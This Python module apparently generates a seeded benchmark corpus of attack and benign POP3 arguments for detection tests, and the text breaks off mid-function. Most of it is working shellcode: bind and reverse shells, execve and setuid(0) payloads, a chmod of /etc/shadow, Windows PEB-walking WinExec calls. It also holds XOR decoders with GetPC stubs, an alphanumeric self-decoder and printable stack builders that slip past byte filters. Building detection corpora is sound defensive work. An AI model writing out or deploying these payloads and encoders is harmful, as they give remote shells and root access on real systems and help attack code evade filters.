"""Deterministic corpus generators for the MCP tests and the benchmark.

Everything is built from a seeded ``random.Random``: the same seed gives the same corpus on
every machine.  Attack arguments are real, working code (payloads, encoders and decoder stubs
written here with the small assembler in ``sc_asm``; the tests execute samples to prove that
the decoders reproduce their payloads).  Benign arguments model what POP3 clients really send.

Attack categories: ``raw-x86`` (unencoded payloads), ``xor-getpc`` (XOR decoders with
call/pop, call+4 and fnstenv GetPC stubs), ``alnum`` (alphanumeric self-decoding loop, the
ALPHA2 idea in a design of its own), ``printable`` (printable stack builder), ``sled`` (NOP and
polymorphic sleds alone), ``sled+shellcode``, ``ret-spray``, ``slmail`` (PASS overflow shape),
``cyrus`` (pop3d USER overflow shape) and ``x86-64``.
"""

from __future__ import annotations

import base64
import hashlib
import itertools
import random
import string
import struct
from collections.abc import Callable, Iterator

import sc_asm as A
from sc_asm import EAX, EBP, EBX, ECX, EDI, EDX, ESI, ESP, Jump, Label

#: the bytes a string-based overflow (SLMail PASS, Cyrus USER) cannot contain
BAD = frozenset(b"\x00\x0a\x0d\x20")
ALNUM = (string.ascii_letters + string.digits).encode()
PRINTABLE = bytes(range(0x21, 0x7F))

# ====================================================================== payloads (x86)

#: single-byte instructions that change no register a payload relies on
_JUNK = [b"\x90", b"\xfc", b"\xf8", b"\xf9", b"\xf5", b"\x9b"]


def _junk(rng: random.Random, chance: float = 0.25) -> bytes:
    return rng.choice(_JUNK) if rng.random() < chance else b""


def _zero(rng: random.Random, reg: int) -> bytes:
    """A NUL-free way of clearing a register."""
    return rng.choice([A.xor_rr(reg, reg), A.sub_rr(reg, reg), A.push_imm8(1) + A.pop(reg) + A.dec(reg)])


def _number(rng: random.Random, value: int) -> bytes:
    """Load a small system call number into eax, which is already zero."""
    return rng.choice([A.mov_r8(A.AL, value), A.push_imm8(value) + A.pop(EAX)])


def _push_string(text: bytes) -> bytes:
    """Push a string (length a multiple of 4) so that esp points at it."""
    return b"".join(A.push_imm32(text[i:i + 4]) for i in range(len(text) - 4, -4, -4))


def _join(rng: random.Random, parts: list[bytes]) -> bytes:
    return b"".join(part + _junk(rng) for part in parts)


def linux_execve(rng: random.Random) -> bytes:
    """execve("/bin//sh", ["/bin//sh"], NULL) with int 0x80."""
    path = rng.choice([b"/bin//sh", b"//bin/sh", b"/bin/ksh", b"/bin/zsh", b"/bin/ash"])
    edx = rng.choice([A.CDQ, A.mov_rr(EDX, EAX), A.xor_rr(EDX, EDX)])
    return _join(rng, [
        _zero(rng, EAX), A.push(EAX), _push_string(path), A.mov_rr(EBX, ESP),
        A.push(EAX), A.push(EBX), A.mov_rr(ECX, ESP), edx, _number(rng, 11), A.INT80,
    ])


def linux_setuid_execve(rng: random.Random) -> bytes:
    """setuid(0) then execve."""
    return _join(rng, [_zero(rng, EAX), _zero(rng, EBX), _number(rng, 23), A.INT80]) + linux_execve(rng)


def _port(rng: random.Random) -> int:
    while True:
        port = rng.randint(1025, 65000)
        if not set(struct.pack(">H", port)) & BAD:
            return port


def _ipv4(rng: random.Random) -> bytes:
    while True:
        address = bytes(rng.randint(1, 254) for _ in range(4))
        if not set(address) & BAD:
            return address


def linux_bind_shell(rng: random.Random) -> bytes:
    """socketcall socket/bind/listen/accept, dup2 loop, execve."""
    port = struct.pack(">H", _port(rng))
    socket = [_zero(rng, EAX), _zero(rng, EBX), A.push(EAX), A.push_imm8(1), A.push_imm8(2),
              A.mov_rr(ECX, ESP), A.inc(EBX), A.mov_r8(A.AL, 102), A.INT80, A.mov_rr(ESI, EAX)]
    bind = [_zero(rng, EDX), A.push(EDX), b"\x66\x68" + port, b"\x66\x6a\x02", A.mov_rr(ECX, ESP),
            A.push_imm8(16), A.push(ECX), A.push(ESI), A.mov_rr(ECX, ESP), A.inc(EBX),
            A.mov_r8(A.AL, 102), A.INT80]
    listen = [A.push(EDX), A.push(ESI), A.mov_rr(ECX, ESP), A.mov_r8(A.BL, 4), A.mov_r8(A.AL, 102), A.INT80]
    accept = [A.push(EDX), A.push(EDX), A.push(ESI), A.mov_rr(ECX, ESP), A.inc(EBX),
              A.mov_r8(A.AL, 102), A.INT80, b"\x93"]  # xchg ebx, eax: the client socket
    dup2 = A.assemble([A.push_imm8(2), A.pop(ECX), Label("dup"), A.mov_r8(A.AL, 63), A.INT80,
                       A.dec(ECX), Jump("jns8", "dup")])
    return _join(rng, socket + bind + listen + accept) + dup2 + linux_execve(rng)


def linux_reverse_shell(rng: random.Random) -> bytes:
    """socketcall socket/connect, dup2 loop, execve."""
    port = struct.pack(">H", _port(rng))
    socket = [_zero(rng, EAX), _zero(rng, EBX), A.push(EAX), A.push_imm8(1), A.push_imm8(2),
              A.mov_rr(ECX, ESP), A.inc(EBX), A.mov_r8(A.AL, 102), A.INT80, A.mov_rr(ESI, EAX)]
    connect = [A.push_imm32(_ipv4(rng)), b"\x66\x68" + port, b"\x66\x6a\x02", A.mov_rr(ECX, ESP),
               A.push_imm8(16), A.push(ECX), A.push(ESI), A.mov_rr(ECX, ESP), A.mov_r8(A.BL, 3),
               A.mov_r8(A.AL, 102), A.INT80, A.mov_rr(EBX, ESI)]
    dup2 = A.assemble([A.push_imm8(2), A.pop(ECX), Label("dup"), A.mov_r8(A.AL, 63), A.INT80,
                       A.dec(ECX), Jump("jns8", "dup")])
    return _join(rng, socket + connect) + dup2 + linux_execve(rng)


def linux_chmod(rng: random.Random) -> bytes:
    """chmod("/etc//shadow", 0666) then exit."""
    return _join(rng, [
        _zero(rng, EAX), A.push(EAX), _push_string(b"/etc//shadow"), A.mov_rr(EBX, ESP),
        b"\x66\xb9\xb6\x01", _number(rng, 15), A.INT80, _zero(rng, EAX), A.inc(EAX), A.INT80,
    ])


def linux_write_message(rng: random.Random) -> bytes:
    """write(1, msg, len) with the message found by jmp/call/pop, then exit."""
    message = rng.choice([b"owned!", b"pwn3d by x", b"hello from shellcode", b"r00t"]) + b"\n"
    body = A.assemble([
        Jump("jmp8", "tail"), Label("back"), A.pop(ECX), _zero(rng, EAX), A.mov_r8(A.AL, 4),
        _zero(rng, EBX), A.inc(EBX), _zero(rng, EDX), A.mov_r8(A.DL, len(message)), A.INT80,
        _zero(rng, EAX), A.inc(EAX), A.INT80, Label("tail"), Jump("call32", "back"),
    ])
    return body + message


def bsd_execve(rng: random.Random) -> bytes:
    """FreeBSD execve: arguments on the stack, a dummy return address, then int 0x80."""
    return _join(rng, [
        _zero(rng, EAX), A.push(EAX), _push_string(b"/bin//sh"), A.mov_rr(EBX, ESP),
        A.push(EAX), A.push(EBX), A.mov_rr(ECX, ESP), A.push(EAX), A.push(ECX), A.push(EBX),
        A.push(EAX), A.mov_r8(A.AL, 59), A.INT80,
    ])


def windows_peb_winexec(rng: random.Random) -> bytes:
    """Find kernel32 through the PEB loader list and look up WinExec in its export table."""
    first = rng.choice([
        A.xor_rr(ECX, ECX) + b"\x64\x8b\x41\x30",  # mov eax, fs:[ecx+0x30]
        A.push_imm8(0x30) + A.pop(ECX) + b"\x64\x8b\x01",  # mov eax, fs:[ecx]
        A.xor_rr(EDX, EDX) + b"\x64\x8b\x42\x30",  # mov eax, fs:[edx+0x30]
    ])
    walk = [
        first, b"\x8b\x40\x0c", b"\x8b\x70\x14", A.LODSD, b"\x96", A.LODSD, b"\x8b\x58\x10",
        b"\x8b\x53\x3c", b"\x01\xda", b"\x8b\x52\x78", b"\x01\xda", b"\x8b\x72\x20", b"\x01\xde",
        A.xor_rr(ECX, ECX),
    ]
    find = A.assemble([
        Label("find"), A.inc(ECX), A.LODSD, b"\x01\xd8", b"\x81\x38WinE", Jump("jnz8", "find"),
        b"\x8b\x72\x24", b"\x01\xde", b"\x66\x8b\x0c\x4e", A.dec(ECX), b"\x8b\x72\x1c", b"\x01\xde",
        b"\x8b\x14\x8e", b"\x01\xda", A.xor_rr(ECX, ECX), A.push(ECX),
        _push_string(rng.choice([b"calc.exe", b"cmd.exe ", b"net user"])), A.mov_rr(EBX, ESP),
        A.inc(ECX), A.push(ECX), A.push(EBX), b"\xff\xd2",
    ])
    return _join(rng, walk) + find


def _dll_address(rng: random.Random) -> int:
    """An address in the range system DLLs were loaded at, without bad characters."""
    while True:
        value = rng.choice([0x7C800000, 0x77E00000, 0x7C900000, 0x71AB0000, 0x77C10000])
        value += rng.randrange(0x10000, 0xF0000)
        if not set(A.d32(value)) & BAD:
            return value


def windows_hardcoded_call(rng: random.Random) -> bytes:
    """WinExec/system at a hard-coded address, as in many old exploits."""
    command = rng.choice([b"calc.exe", b"cmd.exe ", b"net user", b"notepad ", b"tftp -i "])
    reg = rng.choice([EAX, EBX, EDX, ESI, EDI])
    return _join(rng, [
        _zero(rng, ECX), A.push(ECX), _push_string(command), A.mov_rr(EBX, ESP),
        rng.choice([A.push_imm8(1), A.push(ECX)]), A.push(EBX), A.mov_r32(reg, _dll_address(rng)),
        bytes((0xFF, 0xD0 + reg)),
    ])


X86_PAYLOADS: list[Callable[[random.Random], bytes]] = [
    linux_execve, linux_setuid_execve, linux_bind_shell, linux_reverse_shell, linux_chmod,
    linux_write_message, bsd_execve, windows_peb_winexec, windows_hardcoded_call,
]
WINDOWS_PAYLOADS = [windows_peb_winexec, windows_hardcoded_call]
LINUX_PAYLOADS = [linux_execve, linux_setuid_execve, linux_bind_shell, linux_reverse_shell, linux_chmod]


def x86_payload(rng: random.Random, pool: list[Callable[[random.Random], bytes]] | None = None) -> bytes:
    return rng.choice(pool or X86_PAYLOADS)(rng)


# ====================================================================== payloads (x86-64)


def x64_execve(rng: random.Random) -> bytes:
    """execve("/bin//sh", 0, 0) with syscall."""
    path = rng.choice([b"/bin//sh", b"//bin/sh", b"/bin/zsh"])
    rdi = rng.choice([b"\x54\x5f", A.mov_r64(A.RDI, A.RSP)])
    rax = rng.choice([A.push_imm8(59) + A.pop(A.RAX), A.xor_rr(EAX, EAX) + A.mov_r8(A.AL, 59)])
    return _join(rng, [
        rng.choice([A.xor_rr(ESI, ESI), A.xor_r64(A.RSI, A.RSI)]), A.push(A.RSI),
        A.mov_r64_imm(A.RDI, path), A.push(A.RDI), rdi, rng.choice([A.CDQ, A.xor_rr(EDX, EDX)]),
        rax, A.SYSCALL,
    ])


def x64_bind_shell(rng: random.Random) -> bytes:
    """socket, bind, listen, accept, dup2, execve (Linux x86-64)."""
    port = struct.pack(">H", _port(rng))
    socket = [A.push_imm8(41), A.pop(A.RAX), A.push_imm8(2), A.pop(A.RDI), A.push_imm8(1),
              A.pop(A.RSI), A.CDQ, A.SYSCALL, A.mov_r64(A.RDI, A.RAX)]
    bind = [A.xor_rr(EDX, EDX), A.push(A.RDX), b"\x66\x68" + port, b"\x66\x6a\x02", b"\x54\x5e",
            A.push_imm8(16), A.pop(A.RDX), A.push_imm8(49), A.pop(A.RAX), A.SYSCALL]
    listen = [A.push_imm8(50), A.pop(A.RAX), A.push_imm8(1), A.pop(A.RSI), A.SYSCALL]
    accept = [A.push_imm8(43), A.pop(A.RAX), A.xor_rr(ESI, ESI), A.CDQ, A.SYSCALL,
              A.mov_r64(A.RDI, A.RAX)]
    return _join(rng, socket + bind + listen + accept) + x64_execve(rng)


def x64_reverse_shell(rng: random.Random) -> bytes:
    """socket, connect, dup2, execve (Linux x86-64)."""
    port = struct.pack(">H", _port(rng))
    socket = [A.push_imm8(41), A.pop(A.RAX), A.push_imm8(2), A.pop(A.RDI), A.push_imm8(1),
              A.pop(A.RSI), A.CDQ, A.SYSCALL, A.mov_r64(A.RDI, A.RAX)]
    connect = [A.push_imm32(_ipv4(rng)), b"\x66\x68" + port, b"\x66\x6a\x02", b"\x54\x5e",
               A.push_imm8(16), A.pop(A.RDX), A.push_imm8(42), A.pop(A.RAX), A.SYSCALL]
    dup2 = A.assemble([A.push_imm8(2), A.pop(A.RSI), Label("dup"), A.push_imm8(33), A.pop(A.RAX),
                       A.SYSCALL, b"\x48\xff\xce", Jump("jns8", "dup")])
    return _join(rng, socket + connect) + dup2 + x64_execve(rng)


def x64_windows_peb(rng: random.Random) -> bytes:
    """Find kernel32 through gs:[0x60] (PEB) and the loader list, Windows x64."""
    first = rng.choice([
        A.xor_rr(ECX, ECX) + b"\x65\x48\x8b\x41\x60",  # mov rax, gs:[rcx+0x60]
        b"\x65\x48\x8b\x04\x25\x60\x00\x00\x00",  # mov rax, gs:[0x60]
        A.push_imm8(0x60) + A.pop(A.RSI) + b"\x65\x48\x8b\x06",  # mov rax, gs:[rsi]
    ])
    return _join(rng, [
        first, b"\x48\x8b\x40\x18", b"\x48\x8b\x70\x20", b"\x48\xad", b"\x48\x96", b"\x48\xad",
        b"\x48\x8b\x58\x20", b"\x8b\x53\x3c", b"\x48\x01\xda", b"\x8b\x92\x88\x00\x00\x00",
    ])


X64_PAYLOADS = [x64_execve, x64_bind_shell, x64_reverse_shell, x64_windows_peb]


# ====================================================================== encoders


def _free_of(data: bytes, bad: frozenset[int]) -> bool:
    return not set(data) & bad


def _byte_key(rng: random.Random, payload: bytes, bad: frozenset[int], op: str) -> int:
    """A key whose encoding of ``payload`` (and the key itself) avoids ``bad``."""
    for _ in range(2000):
        key = rng.randint(1, 255)
        if key in bad:
            continue
        if _free_of(_encode_bytes(payload, key, op), bad):
            return key
    raise ValueError("no key avoids the bad characters")


def _encode_bytes(payload: bytes, key: int, op: str) -> bytes:
    if op == "xor":
        return bytes(b ^ key for b in payload)
    if op == "sub":  # decoder subtracts the key
        return bytes((b + key) & 0xFF for b in payload)
    return bytes((b - key) & 0xFF for b in payload)  # decoder adds the key


_DECODE_OPS = {"xor": 6, "sub": 5, "add": 0}  # /digit of the 0x80 group


def _count_setup(rng: random.Random, count: int) -> bytes:
    """ecx = count, without NULs (callers keep the count's bytes free of bad characters)."""
    if count < 0x80:
        return rng.choice([A.xor_rr(ECX, ECX) + A.mov_r8(A.CL, count), A.push_imm8(count) + A.pop(ECX)])
    if count < 0x100:
        return A.xor_rr(ECX, ECX) + A.mov_r8(A.CL, count)
    return A.xor_rr(ECX, ECX) + b"\x66\xb9" + struct.pack("<H", count)


def xor_callpop(rng: random.Random, payload: bytes, bad: frozenset[int] = BAD) -> bytes:
    """jmp/call/pop GetPC, then a byte loop (xor, add or sub) over the payload."""
    payload = _pad_count(payload)
    op = rng.choice(list(_DECODE_OPS))
    key = _byte_key(rng, payload, bad, op)
    reg = rng.choice([ESI, EDI, EBX, EAX, EDX])
    step = rng.choice([A.inc(reg), bytes((0x83, 0xC0 + reg, 0x01)), bytes((0x83, 0xE8 + reg, 0xFF))])
    close = rng.choice([[Jump("loop8", "decode")], [A.dec(ECX), Jump("jnz8", "decode")]])
    stub = A.assemble([
        Jump("jmp8", "getpc"), Label("start"), A.pop(reg), _junk(rng), _count_setup(rng, len(payload)),
        Label("decode"), A.mem(b"\x80", _DECODE_OPS[op], reg) + bytes((key,)), step, *close,
        Jump("jmp8", "payload"), Label("getpc"), Jump("call32", "start"), Label("payload"),
    ])
    return stub + _encode_bytes(payload, key, op)


def _pad_count(payload: bytes, unit: int = 1) -> bytes:
    """Pad with nops until the loop count (bytes or dwords) has no bad characters."""
    while True:
        count = len(payload) // unit
        raw = bytes((count,)) if count < 0x100 else struct.pack("<H", count)
        if not set(raw) & BAD and len(payload) % unit == 0:
            return payload
        payload += b"\x90"


def xor_call4(rng: random.Random, payload: bytes, bad: frozenset[int] = BAD) -> bytes:
    """``call $+4`` GetPC (the call lands on its own last byte), then a xor loop."""
    payload = _pad_count(payload)
    key = _byte_key(rng, payload, bad, "xor")
    reg = rng.choice([ESI, EDI, EBX, EDX])
    items: list[bytes | Label | Jump] = [b"\xe8\xff\xff\xff\xff\xc3", A.pop(reg)]
    head = A.assemble(items)  # reg = address of the c3 byte
    # offset from the c3 byte to the payload: the rest of the stub
    body_wo_add = A.assemble([
        _count_setup(rng, len(payload)), Label("decode"), A.mem(b"\x80", 6, reg) + bytes((key,)),
        A.inc(reg), Jump("loop8", "decode"),
    ])
    distance = len(head) - 5 + 3 + len(body_wo_add)
    add = bytes((0x83, 0xC0 + reg, distance))
    return head + add + body_wo_add + _encode_bytes(payload, key, "xor")


_FPU_OPS = [b"\xd9\xee", b"\xd9\xe8", b"\xd9\xeb", b"\xd9\xed", b"\xdb\xc3", b"\xda\xc9"]


def xor_fnstenv(rng: random.Random, payload: bytes, bad: frozenset[int] = BAD) -> bytes:
    """fnstenv GetPC, then a dword xor loop whose key adds each decoded dword (feedback)."""
    payload = _pad_count(payload, 4)
    pointer = rng.choice([EBX, ESI, EDI, EDX, EAX])
    key_reg = rng.choice([r for r in (EAX, EBX, EDX, ESI, EDI) if r != pointer])
    for _ in range(2000):
        key = rng.getrandbits(32)
        stub = _fnstenv_stub(rng, pointer, key_reg, key, len(payload) // 4)
        encoded = _feedback_encode(payload, key)
        if _free_of(stub + encoded, bad):
            return stub + encoded
    raise ValueError("no key avoids the bad characters")


def _fnstenv_stub(rng: random.Random, pointer: int, key_reg: int, key: int, dwords: int) -> bytes:
    fpu = rng.choice(_FPU_OPS)
    parts_before = fpu + b"\xd9\x74\x24\xf4" + A.pop(pointer) + A.mov_r32(key_reg, key) + _count_setup(rng, dwords)
    loop_len = 3 + 3 + 3 + 2
    disp = len(parts_before) + loop_len
    loop = A.assemble([
        Label("decode"), A.mem_disp8(b"\x31", key_reg, pointer, disp),
        A.mem_disp8(b"\x03", key_reg, pointer, disp), bytes((0x83, 0xE8 + pointer, 0xFC)),
        Jump("loop8", "decode"),
    ])
    return parts_before + loop


def _feedback_encode(payload: bytes, key: int) -> bytes:
    out = bytearray()
    for i in range(0, len(payload), 4):
        plain = struct.unpack("<I", payload[i:i + 4])[0]
        out += struct.pack("<I", plain ^ key)
        key = (key + plain) & 0xFFFFFFFF
    return bytes(out)


X86_ENCODERS = [xor_callpop, xor_call4, xor_fnstenv]


def x64_xor(rng: random.Random, payload: bytes) -> bytes:
    """x86-64 byte xor decoder; GetPC through ``lea rsi, [rip+x]`` or jmp/call/pop."""
    key = _byte_key(rng, payload, frozenset((0,)), "xor")
    loop = [Label("decode"), b"\x80\x36" + bytes((key,)), b"\x48\xff\xc6", Jump("loop8", "decode")]
    count = A.push_imm8(len(payload)) + A.pop(A.RCX) if len(payload) < 0x80 else A.xor_rr(ECX, ECX) + b"\x66\xb9" + struct.pack("<H", len(payload))
    if rng.random() < 0.5:
        body = A.assemble([count, *loop])
        stub = b"\x48\x8d\x35" + A.d32(len(body)) + body
    else:
        stub = A.assemble([Jump("jmp8", "getpc"), Label("start"), A.pop(A.RSI), count, *loop,
                           Jump("jmp8", "payload"), Label("getpc"), Jump("call32", "start"), Label("payload")])
    return stub + bytes(b ^ key for b in payload)


# ====================================================================== printable encoders


def _alnum_with_nibble(rng: random.Random, nibble: int, exclude: int = -1) -> int:
    choices = [c for c in ALNUM if c & 0xF == nibble and c != exclude]
    return rng.choice(choices)


def alnum_encode(rng: random.Random, payload: bytes, base: int = ECX) -> bytes:
    """Alphanumeric self-decoding payload: every byte is [0-9A-Za-z].

    Each payload byte b is a pair (c1, c2) with ``((c1 * K) & 0xff) ^ c2 == b`` (K = 16*m,
    m odd): c2 carries the low nibble, c1 selects the high one.  The decoder loop computes
    that with ``imul``/``xor`` through [ecx+d] and writes it in place with the xor-move trick
    (``xor al, [edx+d]; xor [edx+d], al``).  The loop's backward ``jnz`` offset cannot be
    alphanumeric, so the prologue patches it with ``xor [ecx+d], al`` first.  ``base`` names
    the register that points at the decoder when it starts (``jmp reg``).
    """
    multiplier = rng.choice([0x30, 0x50, 0x70])
    inverse = pow(multiplier >> 4, -1, 16)
    terminator = rng.choice(b"zyxwvu")
    for _ in range(200):
        code = _alnum_decoder(rng, multiplier, terminator, base)
        if code is not None:
            break
    else:
        raise ValueError("could not lay out the alphanumeric decoder")
    pairs = bytearray()
    for b in payload:
        c2 = _alnum_with_nibble(rng, b & 0xF)
        c1 = _alnum_with_nibble(rng, (((b >> 4) ^ (c2 >> 4)) * inverse) & 0xF, exclude=terminator)
        pairs += bytes((c1, c2))
    return code + bytes(pairs) + bytes((terminator, rng.choice(ALNUM)))


def _alnum_decoder(rng: random.Random, multiplier: int, terminator: int, base: int) -> bytes | None:
    """The decoder bytes for one random layout, or ``None`` if an offset came out non-alnum."""
    prologue = b"" if base == ECX else bytes((0x50 + base, 0x59))  # push base; pop ecx
    pads = [b"PX", b"QY", b"RZ", b"AI", b"BJ", b"WX"]
    padding = b"".join(rng.choice(pads) for _ in range(rng.randint(4, 12)))
    patch_len = 11  # j0 X 40 H 4<y> 0A<dj>
    setup = b"QZ"  # push ecx; pop edx
    loop_head = len(prologue) + len(padding) + patch_len + len(setup)
    # loop: 6b 41 d1 K | 32 41 d1+1 | 32 42 d1 | 30 42 d1 | A A B | j T X | 38 41 d1 | 75 J
    loop_len = 4 + 3 + 3 + 3 + 3 + 3 + 3 + 2
    data = loop_head + loop_len
    jnz_offset_at = data - 1
    if not all(c in ALNUM for c in (data, data + 1, jnz_offset_at)):
        return None
    target = (loop_head - data) & 0xFF  # backward from the end of the jnz to the loop head
    options = [(a0, target ^ 0xFF ^ a0) for a0 in ALNUM if (target ^ 0xFF ^ a0) in ALNUM]
    if not options:
        return None
    placeholder, y = rng.choice(options)
    patch = b"j0X40H4" + bytes((y,)) + b"0A" + bytes((jnz_offset_at,))
    d = data
    loop = (b"\x6b\x41" + bytes((d, multiplier)) + b"\x32\x41" + bytes((d + 1,)) + b"\x32\x42" + bytes((d,))
            + b"\x30\x42" + bytes((d,)) + b"AAB" + b"j" + bytes((terminator,)) + b"X" + b"\x38\x41" + bytes((d,))
            + b"u" + bytes((placeholder,)))
    code = prologue + padding + patch + setup + loop
    assert len(code) == data
    return code


def _printable_sum(rng: random.Random, total: int, low: int = 0x21, high: int = 0x7E) -> list[int]:
    """Three dwords with every byte in [low, high] whose sum is ``total`` modulo 2**32."""
    values = [0, 0, 0]
    carry = 0
    for position in range(4):
        want = (total >> (8 * position)) & 0xFF
        sums = [want + 256 * k - carry for k in range(3)]
        feasible = [s for s in sums if 3 * low <= s <= 3 * high]
        target = rng.choice(feasible)
        a = rng.randint(max(low, target - 2 * high), min(high, target - 2 * low))
        b = rng.randint(max(low, target - a - high), min(high, target - a - low))
        c = target - a - b
        for i, part in enumerate((a, b, c)):
            values[i] |= part << (8 * position)
        carry = (target + carry) >> 8
    return values


def _zero_masks(rng: random.Random, allowed: bytes) -> tuple[int, int]:
    """Two printable dwords whose AND is zero (``and eax, m1; and eax, m2`` clears eax)."""
    pairs = [(a, b) for a in allowed for b in allowed if not a & b]
    chosen = [rng.choice(pairs) for _ in range(4)]
    return (struct.unpack("<I", bytes(a for a, _ in chosen))[0], struct.unpack("<I", bytes(b for _, b in chosen))[0])


def printable_encode(rng: random.Random, payload: bytes, base: int = EAX) -> bytes:
    """Printable stack builder: moves esp past itself and pushes the payload, last dword first.

    ``and eax, m1; and eax, m2`` clears eax, three ``sub eax, imm32`` make the dword, ``push
    eax`` stores it just after the builder; when the builder ends, execution slides into the
    payload it wrote.  Every byte is printable (0x21..0x7e).
    """
    allowed = bytes(c for c in PRINTABLE if c not in b"\x7f")
    payload += b"\x90" * (-len(payload) % 4)
    dwords = [struct.unpack("<I", payload[i:i + 4])[0] for i in range(0, len(payload), 4)]
    m1, m2 = _zero_masks(rng, allowed)
    body = bytearray()
    for dword in reversed(dwords):
        body += b"%" + A.d32(m1) + b"%" + A.d32(m2)
        for term in _printable_sum(rng, (-dword) & 0xFFFFFFFF):
            body += b"-" + A.d32(term)
        body += b"P"
    head_len = 2 + 15 + 2  # push base; pop eax | 3 x sub | push eax; pop esp
    end = head_len + len(body) + len(payload)
    subs = _printable_sum(rng, (-end) & 0xFFFFFFFF)
    head = bytes((0x50 + base,)) + b"X" + b"".join(b"-" + A.d32(t) for t in subs) + b"P\\"
    filler = bytes(rng.choice(b"ABCDEFGHIJKLMNO") for _ in range(len(payload)))
    return head + bytes(body) + filler


# ====================================================================== printable encoder families
#
# Hand-written "printable" encoders and several framework encoders build their payload from
# printable bytes only: the values are computed in eax with AND (to clear it), SUB and XOR
# against printable immediates and PUSH/POP moves, and then either pushed onto a stack that
# was moved to just past the builder ("built on the stack"), or stored over placeholder bytes
# further on in the argument ("in place").  There is no loop and no backward jump: execution
# runs off the end of the builder, over a landing pad, into the code it wrote.  The families
# below vary the register the exploit points at the code, the zeroing and arithmetic used to
# reach each value, the register a value travels through, the order and segmentation of the
# stack writes, the landing pad and the payload.

#: printable bytes the families use for immediates and placeholders
PRINT = bytes(range(0x21, 0x7F))
#: one-byte printable instructions a landing pad may be made of: inc/dec of registers other
#: than esp, and the BCD adjustments (they touch only al and the flags)
PAD_BYTES = b"ABCFGHIJKNO'/7?"
#: registers a value may travel through (push eax; pop R; push R) and pointer registers
_TRANSIT = (ECX, EDX, EBX, ESI, EDI, EBP)
_POINTERS = (ECX, EDX, EBX, ESI, EDI)


def _printable_terms(rng: random.Random, total: int, count: int) -> list[int]:
    """``count`` (3 or more) dwords, every byte printable, whose sum is ``total`` modulo 2**32."""
    low, high = 0x21, 0x7E
    values = [0] * count
    carry = 0
    for position in range(4):
        want = (total >> (8 * position)) & 0xFF
        feasible = [want + 256 * k - carry for k in range(count + 1)]
        feasible = [s for s in feasible if count * low <= s <= count * high]
        target = rng.choice(feasible)
        parts = []
        rest = target
        for left in range(count, 0, -1):
            if left == 1:
                part = rest
            else:
                part = rng.randint(max(low, rest - (left - 1) * high), min(high, rest - (left - 1) * low))
            parts.append(part)
            rest -= part
        for i, part in enumerate(parts):
            values[i] |= part << (8 * position)
        carry = (target + carry) >> 8
    return values


def _printable_dword(rng: random.Random) -> int:
    return struct.unpack("<I", bytes(rng.choice(PRINT) for _ in range(4)))[0]


def _eax_becomes(rng: random.Random, value: int, plan: tuple[str, int, list[str]]) -> bytes:
    """Printable code that leaves ``value`` in eax whatever eax held.

    ``plan`` = (zeroing, number of SUB terms, trailing operations): eax is cleared (two AND
    masks, or push/pop/xor of one immediate), brought to an intermediate value by SUB terms,
    then through the trailing XOR/SUB operations to ``value``.
    """
    zeroing, terms, trailing = plan
    code = bytearray()
    # (eax cleared by two AND masks, by xor with the immediate it was loaded with, or by
    # push imm8 / pop eax / xor al)
    if zeroing == "and":
        m1, m2 = _zero_masks(rng, PRINT)
        code += b"%" + A.d32(m1) + b"%" + A.d32(m2)
    elif zeroing == "xor":  # push imm32; pop eax; xor eax, imm32 (the same immediate)
        k = _printable_dword(rng)
        code += b"h" + A.d32(k) + b"X5" + A.d32(k)
    else:  # push imm8; pop eax (eax = the small immediate); xor al, imm8
        k = rng.choice(PRINT)
        code += b"j" + bytes((k,)) + b"X4" + bytes((k,))
    immediates = [_printable_dword(rng) for _ in trailing]
    before = value
    for op, k in zip(reversed(trailing), reversed(immediates)):
        before = before ^ k if op == "xor" else (before + k) & 0xFFFFFFFF
    for term in _printable_terms(rng, (-before) & 0xFFFFFFFF, terms):
        code += b"-" + A.d32(term)
    for op, k in zip(trailing, immediates):
        code += (b"5" if op == "xor" else b"-") + A.d32(k)
    return bytes(code)


def _eax_plan(rng: random.Random) -> tuple[str, int, list[str]]:
    return (rng.choice(["and", "xor", "push8"]), rng.choice([3, 3, 4]),
            [rng.choice(["xor", "sub"]) for _ in range(rng.choice([0, 0, 1, 2]))])


def _eax_plan_size(plan: tuple[str, int, list[str]]) -> int:
    return {"and": 10, "xor": 11, "push8": 5}[plan[0]] + 5 * plan[1] + 5 * len(plan[2])


def _landing_pad(rng: random.Random, length: int) -> bytes:
    return bytes(rng.choice(PAD_BYTES) for _ in range(length))


def _dwords(payload: bytes) -> list[int]:
    payload += b"\x90" * (-len(payload) % 4)
    return [struct.unpack("<I", payload[i:i + 4])[0] for i in range(0, len(payload), 4)]


def _copy_base(base: int, to: int) -> bytes:
    """``push base; pop to`` (nothing if they are the same register)."""
    return b"" if base == to else bytes((0x50 + base, 0x58 + to))


def printable_stack_builder(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
    """Built on the stack, in one to three segments written in any order.

    The start pointer (the register the exploit jumped through, ``esp`` after ``jmp esp``,
    pointing ``before`` bytes before the builder) is kept in a register S; for each segment, ``push S; pop eax; sub ...; push eax; pop esp``
    puts the stack at the segment's end, and each dword is computed in eax and pushed
    (directly or through another register), last dword first.
    """
    dwords = _dwords(payload)
    keep = rng.choice([r for r in (EBX, ESI, EDI, EBP, EDX, ECX) if r != base])
    cuts = sorted(rng.sample(range(1, len(dwords)), min(len(dwords) - 1, rng.choice([0, 1, 2]))))
    bounds = [0] + cuts + [len(dwords)]
    count = len(bounds) - 1
    # any order in which no segment but the last one built ends (the next segment's ``push``
    # lands on the dword below its start) above a segment already built or above the landing pad
    orders = [order for order in itertools.permutations(range(count))
              if all(order[i] != 0 and order[i] - 1 not in order[:i] for i in range(count - 1))]
    segments = [(bounds[i], bounds[i + 1]) for i in rng.choice(orders)]
    # structure first, values after: the layout must be known before the offsets are computed
    seg_terms = [rng.choice([3, 4]) for _ in segments]
    dword_plans = [_eax_plan(rng) for _ in dwords]
    transit = [rng.choice(_TRANSIT) if rng.random() < 0.4 else EAX for _ in dwords]
    transit = [EAX if t == keep else t for t in transit]
    junk = [rng.choice([b"", b"", b"AI", b"BJ", b"GO", b"7", b"?"]) for _ in dwords]
    junk = [b"" if keep in (ECX, EDX, EDI) and j[:1] in (bytes((0x40 + keep,)),) else j for j in junk]
    pad = rng.randint(0, 24)
    size = 2 if base != keep else 0
    size += sum(4 + 5 * t for t in seg_terms)
    size += sum(_eax_plan_size(p) + (1 if t == EAX else 3) + len(j) for p, t, j in zip(dword_plans, transit, junk))
    start_of_payload = size + pad
    code = bytearray(_copy_base(base, keep))
    for (first, last), terms in zip(segments, seg_terms):
        end = before + start_of_payload + 4 * last
        code += bytes((0x50 + keep,)) + b"X"
